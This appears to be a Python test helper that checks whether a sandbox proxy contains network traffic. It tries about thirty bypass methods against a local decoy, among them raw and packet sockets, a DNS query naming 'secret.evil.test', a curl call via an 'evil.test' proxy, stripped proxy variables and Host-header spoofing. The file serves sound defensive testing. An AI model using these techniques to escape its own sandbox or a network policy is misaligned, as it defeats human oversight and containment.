"""Tries one way around the proxy; prints ESCAPED when it seems to have worked.

Arguments: the case, an address, a TCP and a UDP port of the decoy, an address of the machine, the
decoy's Unix socket, and its abstract name. Whether anything arrived is for the decoy to say.
"""

import os
import socket
import subprocess
import sys
import urllib.request

CASE, IP, TCP, UDP, OWN, PATH, ABSTRACT = sys.argv[1:8]
TCP, UDP = int(TCP), int(UDP)
QUERY = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\6secret\4evil\4test\0\0\1\0\1"


def tcp(to, family=socket.AF_INET, say=b"escaped"):
    stream = socket.socket(family, socket.SOCK_STREAM)
    stream.settimeout(5)
    stream.connect(to)
    stream.sendall(say)


def udp(to, family=socket.AF_INET, say=b"escaped"):
    socket.socket(family, socket.SOCK_DGRAM).sendto(say, to)


def udp_connected():
    stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    stream.connect((IP, UDP))
    stream.send(b"escaped")


def broadcast():
    stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    stream.sendto(b"escaped", ("127.255.255.255", UDP))


def fast_open():
    stream = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    stream.sendto(b"escaped", socket.MSG_FASTOPEN, (IP, TCP))


def resolver():
    with open("/etc/resolv.conf") as file:
        if not [line for line in file if line.startswith("nameserver")]:
            raise OSError("no resolver is named")


def run(*words, **environment):
    run = subprocess.run(words, env=dict(os.environ, **environment), stdin=subprocess.DEVNULL, timeout=60)
    if run.returncode:
        raise OSError(f"{words[0]} ended with {run.returncode}")


def bare(*words):
    """The same without a word about a proxy."""
    kept = {name: value for name, value in os.environ.items() if "proxy" not in name.lower()}
    run = subprocess.run(words, env=kept, stdin=subprocess.DEVNULL, timeout=60)
    if run.returncode:
        raise OSError(f"{words[0]} ended with {run.returncode}")


URL = f"http://{IP}:{TCP}/"
CURL = ("curl", "-sS", "-m", "10", "-o", "/dev/null", "-f")
CASES = {
    "a connection to loopback": lambda: tcp((IP, TCP)),
    "a connection to the machine": lambda: tcp((OWN, TCP)),
    "a connection to loopback of IPv6": lambda: tcp(("::1", TCP), socket.AF_INET6),
    "a connection to a mapped address": lambda: tcp(("::ffff:" + IP, TCP), socket.AF_INET6),
    "a connection to this network": lambda: tcp(("0.0.0.0", TCP)),
    "a connection opened by its first bytes": fast_open,
    "a datagram": lambda: udp((IP, UDP)),
    "a datagram to the machine": lambda: udp((OWN, UDP)),
    "a datagram of IPv6": lambda: udp(("::1", UDP), socket.AF_INET6),
    "a connected datagram socket": udp_connected,
    "a broadcast": broadcast,
    "a DNS question": lambda: udp((IP, UDP), say=QUERY),
    "a DNS question over TCP": lambda: tcp((IP, TCP), say=len(QUERY).to_bytes(2, "big") + QUERY),
    "a QUIC greeting": lambda: udp((IP, UDP), say=b"\xc3\0\0\0\1\x08" + bytes(1194)),
    "a resolver": resolver,
    "a netlink socket": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0),
    "a raw socket": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "a raw socket of IPv6": lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58),
    "a raw socket with own headers": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255),
    "a packet socket": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0),
    "a Unix socket of the machine": lambda: tcp(PATH, socket.AF_UNIX),
    "an abstract socket of the machine": lambda: tcp("\0" + ABSTRACT, socket.AF_UNIX),
    "curl without a proxy": lambda: run(*CURL, "--noproxy", "*", URL),
    "curl with everything in NO_PROXY": lambda: run(*CURL, URL, NO_PROXY="*", no_proxy="*"),
    "curl with the host in NO_PROXY": lambda: run(*CURL, URL, NO_PROXY=IP, no_proxy=IP),
    "curl without the environment": lambda: bare(*CURL, URL),
    "curl with another proxy": lambda: run(*CURL, "-x", URL, "http://evil.test/"),
    "git without a proxy": lambda: bare("git", "ls-remote", URL),
    "git with an empty proxy": lambda: run("git", "-c", "http.proxy=", "ls-remote", URL),
    "Python without a proxy": lambda: urllib.request.build_opener(urllib.request.ProxyHandler({})).open(URL, timeout=10),
    "curl through the proxy": lambda: run(*CURL, "-x", "http://127.0.0.1:3128", URL),
    "curl through a tunnel": lambda: run(*CURL, "-p", "-x", "http://127.0.0.1:3128", URL),
    "curl to a name by the proxy": lambda: run(*CURL, f"http://evil.test:{TCP}/"),
    "curl by SOCKS": lambda: run(*CURL, "--socks5", "127.0.0.1:3128", URL),
    "curl with another Host": lambda: run(*CURL, "-H", f"Host: {IP}:{TCP}", "http://good.test/"),
    "curl to a redirected connection": lambda: run(*CURL, "--connect-to", f"good.test:80:{IP}:{TCP}", "http://good.test/"),
}

try:
    CASES[CASE]()
    print("ESCAPED")
except Exception as error:
    print("held:", error)
